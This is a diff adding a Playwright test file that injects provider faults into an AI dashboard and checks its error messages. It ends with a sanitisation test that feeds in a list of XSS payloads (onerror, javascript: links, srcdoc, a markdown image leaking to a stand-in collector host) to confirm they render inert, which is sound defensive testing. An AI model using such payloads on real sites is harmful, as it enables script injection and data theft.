@@ -1,0 +1,174 @@
+import { demoSeller, expect, test } from './steps.ts'
+
+// What a screen says when its provider is slow, failing or cut. Circuits that a fault opened close again after five seconds.
+test.use({ allowed: [/Failed to load resource/] })
+
+type Fault = { kind: string; match?: string; times?: number; status?: number; ms?: number; provider?: string }
+
+test.describe
+  .serial('a provider that', () => {
+    test.beforeEach(async ({ request }) => {
+      await request.delete('/sandbox/faults')
+    })
+    test.afterEach(async ({ request }) => {
+      await request.delete('/sandbox/faults')
+      await expect
+        .poll(async () => (await request.get('/sandbox/faults')).json(), { message: 'no fault is left for the next test' })
+        .toMatchObject({ faults: [] })
+    })
+    const order = (request: import('@playwright/test').APIRequestContext, fault: Fault) =>
+      request.post('/sandbox/faults', { data: { provider: 'openai', times: 0, ...fault } })
+
+    test('cuts its answer: the chat keeps what arrived and says so; asking again mends it', async ({ page, request }) => {
+      await demoSeller(page)
+      await page.goto('/dashboard/operon-ai')
+      await order(request, { kind: 'truncate', times: 1 })
+      await page.getByLabel('Message Operon AI').fill('Explain cash flow')
+      await page.keyboard.press('Enter')
+      const log = page.getByRole('log')
+      await expect(log.getByRole('button', { name: 'Try again' })).toBeVisible({ timeout: 20_000 })
+      await expect(page.getByText('Failed to send message. Please try again.')).toBeVisible()
+      await page.reload()
+      await expect(log.getByText('This answer was cut off. What had arrived is shown.')).toBeVisible()
+      await log.getByRole('button', { name: 'Try again' }).click()
+      await expect(log.getByRole('button', { name: 'Tokens and cost' })).toBeVisible({ timeout: 20_000 })
+      await expect(log.getByText('This answer was cut off')).toHaveCount(0)
+      await expect(log.getByText('Explain cash flow', { exact: true })).toHaveCount(1)
+    })
+
+    test('writes slowly: a reload in the middle finds the whole answer; Stop keeps what arrived', async ({ page, request }) => {
+      await demoSeller(page)
+      await page.goto('/dashboard/operon-ai')
+      await order(request, { kind: 'slow_body', ms: 60 })
+      await page.getByLabel('Message Operon AI').fill('Explain margins slowly')
+      await page.keyboard.press('Enter')
+      await page.waitForURL(/\?c=/)
+      await page.reload()
+      const log = page.getByRole('log')
+      await expect(log.getByRole('button', { name: 'Tokens and cost' })).toBeVisible({ timeout: 40_000 })
+      await page.getByLabel('Message Operon AI').fill('And explain it at length once more')
+      await page.keyboard.press('Enter')
+      await expect(log.getByRole('article').nth(1).getByText(/\w+/).nth(1)).toBeVisible()
+      await page.getByRole('button', { name: 'Stop', exact: true }).click()
+      await expect(log.getByText('You stopped this answer. What had arrived is shown.')).toBeVisible()
+    })
+
+    test('fails in one lane of the lab: that lane says so, the others answer [spec-70] [spec-73]', async ({ page, request }) => {
+      await demoSeller(page)
+      await page.goto('/dashboard/ai-lab')
+      await order(request, { kind: 'status', status: 400, match: 'claude' })
+      await page.getByLabel('Prompt', { exact: true }).fill('One lane fails')
+      await page.getByRole('button', { name: 'Compare All' }).click()
+      await expect(
+        page.getByRole('article', { name: 'Claude' }).getByText(/^Error: .*\. Please check API key configuration\.$/),
+      ).toBeVisible({
+        timeout: 30_000,
+      })
+      await expect(page.getByRole('article', { name: 'Gemini' }).getByText(/Answered by gemini/)).toBeVisible({ timeout: 30_000 })
+      await expect(page.getByRole('button', { name: 'Compare All' })).toBeEnabled()
+    })
+
+    test('is down: every screen says it in its own words [spec-73] [spec-93] [spec-96]', async ({ page, request }) => {
+      test.setTimeout(120_000)
+      await demoSeller(page)
+      await order(request, { kind: 'status', status: 400 })
+
+      await page.goto('/dashboard/ai-lab')
+      await page.getByLabel('Prompt', { exact: true }).fill('All lanes fail')
+      await page.getByRole('button', { name: 'Compare All' }).click()
+      await expect(page.getByText('Failed to get responses from AI models')).toBeVisible({ timeout: 30_000 })
+
+      await page.goto('/dashboard/operon-ai-help')
+      await page.getByRole('button', { name: /first workflow/ }).click()
+      await expect(page.getByText('Failed to get response. Please try again.')).toBeVisible({ timeout: 30_000 })
+      await expect(
+        page.getByText('Sorry, I encountered an error. Please try again or contact support if the issue persists.'),
+      ).toBeVisible()
+
+      await page.goto('/dashboard/ai-assistant')
+      await page.getByRole('button', { name: 'Research my competitors' }).click()
+      await expect(
+        page.getByText("I apologize, but I'm experiencing some technical difficulties. Please try your request again."),
+      ).toBeVisible({
+        timeout: 30_000,
+      })
+
+      await page.goto('/dashboard/content-creator')
+      await page.getByLabel('Topic').fill('nothing')
+      await page.getByRole('button', { name: 'Generate Content' }).click()
+      await expect(page.getByText('Failed to generate content. Please try again.').first()).toBeVisible({ timeout: 30_000 })
+
+      await page.goto('/dashboard/brand-builder')
+      await page.getByLabel('Describe the business').fill('A tea shop')
+      await page.getByRole('button', { name: 'Generate names' }).click()
+      await expect(page.getByText('Fallback names')).toBeVisible({ timeout: 30_000 })
+      await expect(page.getByText('Failed to generate names. Please try again.').first()).toBeVisible()
+      await expect(page.getByRole('list', { name: 'Names' }).getByRole('button')).toHaveCount(8)
+
+      await page.goto('/dashboard/meta-ads')
+      await page.getByLabel('Product or service details').fill('A tea shop')
+      await page.getByRole('button', { name: 'Generate ads' }).click()
+      await expect(page.getByText('Sample data')).toHaveCount(3, { timeout: 30_000 })
+      await expect(page.getByText('Failed to generate ads. Please try again.')).toBeVisible()
+
+      await page.getByRole('button', { name: 'Talk to Operon' }).click()
+      await page.getByLabel('Message Operon').fill('hello there')
+      await page.keyboard.press('Enter')
+      await expect(page.getByText('Failed to get response from Operon')).toBeVisible({ timeout: 30_000 })
+      await expect(page.getByText("I'm sorry, I'm having trouble connecting right now. Please try again in a moment.")).toBeVisible()
+    })
+
+    test('is a registry that does not answer: the domain is unknown, never guessed [spec-97]', async ({ page, request }) => {
+      await demoSeller(page)
+      await page.goto('/dashboard/brand-builder')
+      await page.getByLabel('Describe the business').fill(`A tea shop ${Date.now()}`)
+      await expect(async () => {
+        await page.getByRole('button', { name: 'Generate names' }).click()
+        await expect(page.getByText('Sandbox answer')).toBeVisible({ timeout: 5000 })
+      }).toPass()
+      await order(request, { provider: 'rdap', kind: 'status', status: 503 })
+      await page.getByRole('list', { name: 'Names' }).getByRole('button').first().click()
+      await expect(page.getByText('Unknown', { exact: true })).toHaveCount(5, { timeout: 30_000 })
+      await expect(page.getByText('The registry answered 503.').first()).toBeVisible()
+    })
+  })
+
+// S14: what a model or a person wrote is text.
+const corpus = [
+  '<img src=x onerror="window.xss=1">',
+  '<script>window.xss=1</script>',
+  '<svg/onload=window.xss=1>',
+  '[click](javascript:window.xss=1)',
+  '![x](https://collector.example/leak?d=1)',
+  '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>',
+  '<a href="javascript:window.xss=1" onclick="window.xss=1">x</a>',
+  '"><details open ontoggle=window.xss=1>',
+  '[x](data:text/html,<script>window.xss=1</script>)',
+  '<style>@import "https://collector.example/x.css"</style>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.xss=1>',
+  '<autolink https://collector.example> <javascript:window.xss=1>',
+]
+test('hostile text in questions and answers is shown, never run, and fetches nothing', async ({ page }) => {
+  const foreign: string[] = []
+  page.on('request', (request) => {
+    if (request.url().includes('collector.example')) foreign.push(request.url())
+  })
+  await demoSeller(page)
+  await page.goto('/dashboard/operon-ai')
+  await page.getByLabel('Message Operon AI').fill(corpus.join('\n'))
+  await page.keyboard.press('Enter')
+  await expect(page.getByRole('log').getByRole('button', { name: 'Copy' })).toBeVisible({ timeout: 20_000 })
+  await page.route('**/rest/v1/ai_messages**', async (route) => {
+    const rows = await (await route.fetch()).json()
+    await route.fulfill({
+      json: rows.map((row: object) => ({ ...row, content: corpus.join('\n\n'), citations: ['javascript:window.xss=1'] })),
+    })
+  })
+  await page.reload()
+  const log = page.getByRole('log')
+  await expect(log.getByText('[x]').first()).toBeVisible()
+  for (const link of await log.getByRole('link').all()) expect(await link.getAttribute('href')).toMatch(/^https?:/)
+  expect(await log.locator('img, iframe, script, style, object, embed, form').count()).toBe(0)
+  expect(await page.evaluate(() => (window as { xss?: number }).xss)).toBeUndefined()
+  expect(foreign).toEqual([])
+})
